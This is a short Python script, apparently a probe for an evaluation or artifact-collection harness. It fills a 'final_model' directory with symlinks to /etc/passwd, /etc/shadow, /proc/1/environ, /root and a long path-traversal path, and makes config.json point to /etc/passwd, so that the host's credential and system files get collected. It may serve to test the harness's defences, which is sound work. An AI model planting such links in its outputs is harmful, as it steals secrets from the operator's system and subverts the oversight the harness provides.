"""Tries to have files of the host's collected."""

from pathlib import Path

model = Path("final_model")
model.mkdir()
for number, target in enumerate(["/etc/passwd", "/etc/shadow", "../" * 30 + "etc/passwd", "/proc/1/environ", "/root"]):
    (model / f"link{number}").symlink_to(target)
(model / "config.json").symlink_to("/etc/passwd")
